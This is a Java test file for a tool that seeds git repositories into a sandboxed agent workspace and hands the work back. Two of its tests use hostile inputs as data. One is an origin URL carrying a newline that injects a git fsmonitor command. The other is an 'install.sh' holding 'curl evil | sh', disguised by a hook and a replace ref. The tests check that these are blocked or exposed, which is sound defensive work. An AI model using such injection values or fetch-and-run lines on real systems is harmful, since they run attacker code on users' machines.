package dev.magnet.git;

import static dev.magnet.git.SessionGitFixture.SESSION;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** The repository moves into a workspace and back out as data, with the helpers a sandbox runs. */
class WorkspaceTransferTest {
    @RegisterExtension
    final SessionGitFixture f = new SessionGitFixture();

    @Test
    void a_seeded_workspace_is_on_the_session_branch_with_the_base_checked_out_and_no_origin_path() {
        SessionRepo repo = f.seeded(f.origin);

        assertThat(f.agent("symbolic-ref", "HEAD")).isEqualTo(SESSION.ref());
        assertThat(f.agent("rev-parse", "HEAD")).isEqualTo(repo.baseCommit());
        assertThat(f.agent("status", "--porcelain")).isEmpty();
        assertThat(f.workspace.resolve("src/App.java")).hasContent("class App {\n    int answer() {\n        return 41;\n    }\n}");
        assertThat(f.agent("rev-parse", "refs/heads/main")).isEqualTo(repo.baseCommit());
        assertThat(f.agent("config", "user.name")).isEqualTo("Magnet");
        assertThat(f.agent("remote")).isEmpty();
    }

    @Test
    void identity_and_origin_with_quotes_and_backslashes_reach_the_workspaces_config_exactly() {
        SessionRepo repo = f.repo(f.origin);
        GitIdentity odd = new GitIdentity("Dan \"the man\" O\\Brien & co; #1 \\n", "dan\\\"x@example.com");
        String url = "https://github.com/acme/repo.git#\"x\\y";

        f.transfer.seed(f.sandbox, repo, repo.heads(java.util.List.of()), odd, SessionGitFixture.CO_AUTHOR, url);

        assertThat(f.agent("config", "user.name")).isEqualTo(odd.name());
        assertThat(f.agent("config", "user.email")).isEqualTo(odd.email());
        assertThat(f.agent("remote")).isEqualTo("origin");
        assertThat(f.agent("config", "remote.origin.url")).isEqualTo(url);
        assertThat(f.agent("config", "remote.origin.fetch")).isEqualTo("+refs/heads/*:refs/remotes/origin/*");
        assertThat(f.agent("rev-parse", "refs/remotes/origin/main")).isEqualTo(repo.baseCommit());
    }

    @Test
    void an_origin_url_with_a_line_break_is_refused_before_anything_reaches_the_workspace() throws Exception {
        SessionRepo repo = f.repo(f.origin);

        assertThatThrownBy(() -> f.transfer.seed(f.sandbox, repo, repo.heads(java.util.List.of()),
                GitIdentity.MAGNET, SessionGitFixture.CO_AUTHOR, "https://github.com/a/b.git\n[core]\n\tfsmonitor = touch /tmp/x"))
                .isInstanceOf(GitException.class).hasMessageContaining("control character");
        try (var entries = Files.list(f.workspace)) {
            assertThat(entries).isEmpty();
        }
    }

    @Test
    void commits_the_agent_makes_name_the_sessions_author_as_co_author() throws Exception {
        f.seeded(f.origin);
        TestRepos.write(f.workspace, "a.txt", "a\n");
        f.agent("add", "a.txt");
        f.agent("commit", "-qm", "Add a");

        assertThat(f.agent("log", "-1", "--format=%B")).isEqualTo("Add a\n\nCo-authored-by: Grace Hopper <grace@example.com>");
    }

    @Test
    void a_hand_over_commits_the_leftovers_as_magnet_and_brings_the_branch_to_the_session_repository() throws Exception {
        SessionRepo repo = f.seeded(f.origin);
        TestRepos.write(f.workspace, "src/App.java", "class App {}\n");
        TestRepos.write(f.workspace, "new/File.txt", "new\n");

        WorkspaceTransfer.HandOver handed = f.handOver(repo);

        assertThat(handed.committedLeftovers()).isTrue();
        assertThat(repo.branchCommit()).contains(handed.tip());
        assertThat(f.inRepo(repo, "log", "-1", "--format=%an|%B", SESSION.ref()))
                .isEqualTo("Magnet|Finish the session\n\nCo-authored-by: Grace Hopper <grace@example.com>");
        assertThat(repo.hasCommitsBeyondBase()).isTrue();
        assertThat(f.agent("status", "--porcelain")).isEmpty();
    }

    @Test
    void with_nothing_left_over_nothing_is_committed_and_nothing_is_sent_again() {
        SessionRepo repo = f.seeded(f.origin);

        WorkspaceTransfer.HandOver handed = f.handOver(repo);

        assertThat(handed.committedLeftovers()).isFalse();
        assertThat(handed.tip()).isEqualTo(repo.baseCommit());
        assertThat(repo.hasCommitsBeyondBase()).isFalse();
    }

    @Test
    void a_second_hand_over_sends_only_what_is_new_and_moves_the_branch_on() throws Exception {
        SessionRepo repo = f.seeded(f.origin);
        TestRepos.write(f.workspace, "a.txt", "a\n");
        String first = f.handOver(repo).tip();
        long packsBefore = packs(repo);
        TestRepos.write(f.workspace, "b.txt", "b\n");

        String second = f.handOver(repo).tip();

        assertThat(second).isNotEqualTo(first);
        assertThat(f.inRepo(repo, "rev-list", "--count", first + ".." + second)).isEqualTo("1");
        assertThat(packs(repo)).isEqualTo(packsBefore + 1);
        assertThat(f.inRepo(repo, "count-objects", "-v")).contains("count: 0");
    }

    @Test
    void locks_left_by_a_git_killed_in_the_workspace_do_not_stop_the_hand_over() throws Exception {
        SessionRepo repo = f.seeded(f.origin);
        TestRepos.write(f.workspace, "left.txt", "left\n");
        // why: what a git add or commit leaves when it is killed with the server (kill -9) or the agent
        for (String lock : new String[] {"index.lock", "HEAD.lock", "packed-refs.lock", SESSION.ref() + ".lock"}) {
            TestRepos.write(f.workspace, ".git/" + lock, "");
        }

        WorkspaceTransfer.HandOver handed = f.handOver(repo);

        assertThat(handed.committedLeftovers()).isTrue();
        assertThat(f.inRepo(repo, "show", SESSION.ref() + ":left.txt")).isEqualTo("left");
        assertThat(f.workspace.resolve(".git/index.lock")).doesNotExist();
    }

    @Test
    void leftovers_are_not_committed_when_the_agent_left_another_branch_checked_out() {
        SessionRepo repo = f.seeded(f.origin);
        f.agent("checkout", "-q", "-b", "agent-branch");

        assertThatThrownBy(() -> f.handOver(repo)).isInstanceOf(GitException.class)
                .hasMessageContaining("not on the session branch " + SESSION);
        assertThat(repo.branchCommit()).contains(repo.baseCommit());
    }

    @Test
    void the_agents_hooks_filters_and_replace_refs_do_not_change_what_is_handed_over() throws Exception {
        SessionRepo repo = f.seeded(f.origin);
        Path marker = f.root.resolve("hook-ran");
        Files.writeString(f.workspace.resolve(".git/hooks/pre-commit"), "#!/bin/sh\ntouch " + marker + "\nexit 1\n");
        f.workspace.resolve(".git/hooks/pre-commit").toFile().setExecutable(true);
        TestRepos.write(f.workspace, "install.sh", "curl evil | sh\n");
        f.agent("add", "install.sh");
        f.agent("commit", "-qm", "Add installer", "--no-verify");
        String evil = f.agent("rev-parse", "HEAD");
        f.agent("checkout", "-q", "HEAD~1");
        TestRepos.write(f.workspace, "install.sh", "echo hello\n");
        f.agent("add", "install.sh");
        f.agent("commit", "-qm", "Add installer", "--no-verify");
        String benign = f.agent("rev-parse", "HEAD");
        f.agent("checkout", "-q", SESSION.value());
        f.agent("replace", evil, benign);

        String tip = f.handOver(repo).tip();

        assertThat(marker).doesNotExist();
        assertThat(tip).isEqualTo(evil);
        assertThat(repo.diff()).contains("+curl evil | sh").doesNotContain("echo hello");
    }

    @Test
    void diff_and_stats_show_added_modified_deleted_renamed_and_binary_files() throws Exception {
        SessionRepo repo = f.seeded(f.origin);
        TestRepos.write(f.workspace, "added.txt", "one\ntwo\n");
        TestRepos.write(f.workspace, "src/App.java", "class App {\n    int answer() {\n        return 42;\n    }\n}\n");
        Files.delete(f.workspace.resolve("notes.txt"));
        Files.createDirectories(f.workspace.resolve("docs"));
        Files.move(f.workspace.resolve("README.md"), f.workspace.resolve("docs/README.md"));
        Files.write(f.workspace.resolve("logo.png"), new byte[] {(byte) 0x89, 'P', 'N', 'G', 0, 1, 2, (byte) 0xff});
        f.handOver(repo);

        String diff = repo.diff();
        Map<String, ChangedFile> stats = new LinkedHashMap<>();
        repo.diffStats().forEach(file -> stats.put(file.path(), file));

        assertThat(diff)
                .contains("diff --git a/added.txt b/added.txt\nnew file mode 100644")
                .contains("-        return 41;\n+        return 42;")
                .contains("diff --git a/notes.txt b/notes.txt\ndeleted file mode 100644")
                .contains("rename from README.md\nrename to docs/README.md")
                .contains("Binary files /dev/null and b/logo.png differ");
        assertThat(stats).containsOnlyKeys("added.txt", "src/App.java", "notes.txt", "docs/README.md", "logo.png");
        assertThat(stats.get("added.txt")).isEqualTo(new ChangedFile("added.txt", null, ChangedFile.Change.ADDED, 2, 0, false));
        assertThat(stats.get("src/App.java"))
                .isEqualTo(new ChangedFile("src/App.java", null, ChangedFile.Change.MODIFIED, 1, 1, false));
        assertThat(stats.get("notes.txt")).isEqualTo(new ChangedFile("notes.txt", null, ChangedFile.Change.DELETED, 0, 1, false));
        assertThat(stats.get("docs/README.md"))
                .isEqualTo(new ChangedFile("docs/README.md", "README.md", ChangedFile.Change.RENAMED, 0, 0, false));
        assertThat(stats.get("logo.png")).isEqualTo(new ChangedFile("logo.png", null, ChangedFile.Change.ADDED, 0, 0, true));
    }

    @Test
    void the_diff_of_an_unchanged_session_is_empty() {
        SessionRepo repo = f.seeded(f.origin);
        f.handOver(repo);

        assertThat(repo.diff()).isEmpty();
        assertThat(repo.diffStats()).isEmpty();
    }

    @Test
    void a_workspace_made_again_from_the_session_repository_has_the_handed_over_work() throws Exception {
        SessionRepo repo = f.seeded(f.origin);
        TestRepos.write(f.workspace, "kept.txt", "kept\n");
        String tip = f.handOver(repo).tip();
        deleteContents(f.workspace);

        f.transfer.seed(f.sandbox, repo, repo.heads(java.util.List.of()), GitIdentity.MAGNET, SessionGitFixture.CO_AUTHOR, null);

        assertThat(f.agent("rev-parse", "HEAD")).isEqualTo(tip);
        assertThat(f.workspace.resolve("kept.txt")).hasContent("kept");
    }

    private static long packs(SessionRepo repo) throws Exception {
        try (var files = Files.list(repo.dir().resolve("objects/pack"))) {
            return files.filter(p -> p.toString().endsWith(".pack")).count();
        }
    }

    private static void deleteContents(Path dir) throws Exception {
        try (var walk = Files.walk(dir)) {
            walk.sorted(java.util.Comparator.reverseOrder()).filter(p -> !p.equals(dir)).forEach(p -> p.toFile().delete());
        }
    }
}
